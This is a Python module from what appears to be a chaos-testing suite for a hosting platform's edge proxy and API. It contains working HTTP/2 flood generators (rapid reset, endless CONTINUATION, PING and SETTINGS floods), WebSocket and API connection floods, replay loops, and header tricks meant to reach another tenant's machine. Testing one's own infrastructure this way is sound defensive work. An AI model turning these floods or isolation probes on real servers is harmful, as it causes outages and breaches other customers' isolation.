"""Attacks on what the edge and the API speak beside plain requests: HTTP/2, WebSockets, requests that are replayed, and
conversations with machines.
"""

import socket
import ssl
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from urllib.parse import quote

import aiohttp
import anyio
import msgspec
from anyio.to_thread import run_sync

from hawker.chaos.hostile.bystander import EDGE_PORT
from hawker.chaos.hostile.edge_scenes import hold, measured, published
from hawker.chaos.hostile.stage import Findings, From, Scene, Stage
from hawker.chaos.hostile.tenant_scenes import storm
from hawker.chaos.hostile.tenants import Reply

_PORT, _TLS_PORT = 8091, 8444
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_GET = b"\x82\x87\x84\x41\x01x"  # :method GET, :scheme https, :path /, :authority x
_ASIDE = b"\x00\x05x-pad\x7f\xc1\x3d" + b"p" * 8000  # a field that is not indexed
_FRAMES = 200_000
_UPGRADE = (
    b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
_MASKED = b"\x82\xfe\x40\x00mask" + b"x" * 16_384
_MEMORY_MOST_MIB = 96.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _rapid_resets() -> Iterator[bytes]:
    for stream in range(1, 2 * _FRAMES, 2):
        yield _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, _GET) + _frame(_RESET, 0, stream, b"\0\0\0\x08")


def _endless_head() -> Iterator[bytes]:
    yield _frame(_HEADERS, _END_STREAM, 1, _GET)
    for _ in range(_FRAMES):
        yield _frame(_CONTINUATION, 0, 1, _ASIDE)


def _pings() -> Iterator[bytes]:
    for _ in range(_FRAMES):
        yield _frame(_PING, 0, 0, b"12345678") * 64


def _settings() -> Iterator[bytes]:
    for number in range(_FRAMES):
        yield _frame(_SETTINGS, 0, 0, b"\0\x04" + (65_535 + number % 2).to_bytes(4, "big")) * 64


def _small_frames() -> Iterator[bytes]:
    """Of a request whose body does not end: nothing in them, or next to nothing."""
    yield _frame(_HEADERS, _END_HEADERS, 1, b"\x83" + _GET[1:])
    for _ in range(_FRAMES):
        yield (
            _frame(_DATA, 0, 1) * 32
            + _frame(_PRIORITY, 0, 1, b"\0\0\0\0\x10") * 16
            + _frame(_WINDOW, 0, 1, b"\0\0\0\x01") * 16
        )


def _untaken_streams() -> Iterator[bytes]:
    """Requests whose answers may not be sent, since no window is ever opened."""
    yield _frame(_SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    for stream in range(1, 2 * _FRAMES, 2):
        yield _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, _GET)


_FLOODS = (_rapid_resets, _endless_head, _pings, _settings, _small_frames, _untaken_streams)


async def http2_floods(stage: Stage) -> Findings:
    """HTTP/2 with TLS and without, at the attacker's port and at the bystander's: streams that are reset at once, a
    head without an end, PING, SETTINGS, empty DATA, PRIORITY, and answers that may not be sent."""

    def flood(pieces: Callable[[], Iterator[bytes]], port: int) -> None:
        deadline = stage.clock.monotonic() + stage.seconds
        while stage.clock.monotonic() < deadline:
            with suppress(OSError), _http2(stage, port) as connection:
                for piece in pieces():
                    connection.sendall(piece)
                    if stage.clock.monotonic() > deadline:
                        break

    async def all_of_them() -> None:
        async with anyio.create_task_group() as tasks:
            for pieces in _FLOODS:
                for port in (_TLS_PORT, EDGE_PORT):
                    tasks.start_soon(run_sync, flood, pieces, port)

    async with published(stage, _TLS_PORT, handlers=("tls", "http")):
        if not await run_sync(_speaks_http2, stage):
            raise RuntimeError("the edge speaks no HTTP/2: nothing was attacked")
        return await measured(stage, all_of_them)


def _http2(stage: Stage, port: int) -> socket.socket:
    connection = stage.connect(2.0, port)
    if port == _TLS_PORT:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname="x.example.com")
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
    return connection


def _speaks_http2(stage: Stage) -> bool:
    with _http2(stage, _TLS_PORT) as connection:
        return connection.recv(9)[3:4] == bytes((_SETTINGS,))


async def websockets(stage: Stage) -> Findings:
    """WebSockets with a machine that pours messages which the clients do not take, and takes none of theirs, as many
    as one address gets."""
    async with published(stage, _PORT, "pouring_websocket"):
        if not await run_sync(_is_upgraded, stage):
            raise RuntimeError("the machine gets no WebSocket: nothing was attacked")
        return await measured(stage, partial(run_sync, hold, stage, _PORT, _UPGRADE, 600, _MASKED))


def _is_upgraded(stage: Stage) -> bool:
    with stage.connect(5.0, _PORT) as connection:
        connection.sendall(_UPGRADE)
        return b" 101 " in connection.recv(4096)[:20]


async def replays_in_circles(stage: Stage) -> Findings:
    """Requests with large bodies that the attacker's machine has replayed to itself, by its app and by its own id."""

    async def ask(number: int) -> Reply:
        order = "app={app}" if number % 2 else f"instance={machine_id}"
        path = f"/?{quote(order, safe='{}')}"
        return await stage.attacker.call("POST", path, "x" * 900_000, url=f"http://{stage.ground.itself}:{_PORT}")

    async with published(stage, _PORT, "replaying") as machine_id:
        replies = [await ask(0), await ask(1)]
        if not all("replayed too often" in reply.text for reply in replies):
            raise RuntimeError(f"no request goes in circles: {[reply.problem for reply in replies]}")
        return await measured(stage, partial(storm, stage, 96, ask))


async def replays_into_another_app(stage: Stage) -> Findings:
    """Requests that the attacker's machine has replayed to the bystander's, by app, by id, as a field and as JSON; and
    clients who ask for the bystander's machine at the attacker's port."""
    other, victim = stage.bystander.app, stage.bystander.web
    orders = (
        f"app={other}", f"instance={victim}", f"app={other};instance={victim}", f"app={other};fallback=prefer_self",
        f"elsewhere=true;app={other}", f"app={stage.attacker.app};instance={victim}",
        msgspec.json.encode({"app": other, "instance": victim}).decode(),
    )  # fmt: skip
    forced = ({"Fly-Force-Instance-Id": victim}, {"Fly-Prefer-Instance-Id": victim}, {"Host": f"{other}.internal"})
    url, replies = f"http://{stage.ground.itself}:{_PORT}", []
    async with published(stage, _PORT, "replaying"):
        replies = [await stage.attacker.call("GET", f"/?{quote(order)}", url=url) for order in orders]
        replies += [await stage.attacker.call("GET", "/?", url=url, headers=headers) for headers in forced]
        if any(reply.status == 0 for reply in replies):
            raise RuntimeError(f"a request was not answered: {[reply.problem for reply in replies]}")
    return [f"the other tenant's machine answered: {each.text[:80]}" for each in replies if victim in each.text]


async def conversations(stage: Stage) -> Findings:
    """Connections into a machine through the API, as many as are taken: into some pours data that the machine does not
    read, into the others messages of a few bytes without pause."""
    data = msgspec.json.encode({"type": "data", "data": b"x" * 48_000}).decode()
    little = '{"type":"taken","count":0}'

    async def talk(number: int) -> None:
        try:
            async with stage.attacker.http.ws_connect(url, headers=headers) as talking:
                await talking.send_str('{"port":9000}')
                while (await talking.receive()).type is aiohttp.WSMsgType.TEXT:
                    while True:
                        await talking.send_str(little if number % 2 else data)
        except (aiohttp.ClientError, OSError):
            await stage.clock.sleep(0.1)

    headers = {"Authorization": f"Bearer {stage.attacker.token}"}
    async with stage.attacker.machine("silent_server") as machine_id:
        path = f"/hawker/v1/apps/{stage.attacker.app}/machines/{machine_id}/port"
        url = stage.attacker.url + path
        grown = await stage.growth_mib(partial(storm, stage, 100, talk))
    return [f"the daemon grew by {grown:.0f} MiB"] if grown > _MEMORY_MOST_MIB else []


SCENES = (
    Scene("floods of HTTP/2", From.STRANGER, "the edge's loop time", http2_floods,
          "frames are counted by the frame, 200 streams"),
    Scene("WebSockets that nobody takes", From.TENANT, "the edge's memory", websockets, "places by address, 128 KiB"),
    Scene("replays in circles", From.MACHINE, "the edge's memory", replays_in_circles,
          "ten replays, 256 MiB of kept bodies"),
    Scene("replays into another app", From.MACHINE, "the edge's routes", replays_into_another_app,
          "apps of the machine's own network"),
    Scene("conversations without pause", From.TENANT, "loop time", conversations, "places of an app and of a caller"),
)  # fmt: skip
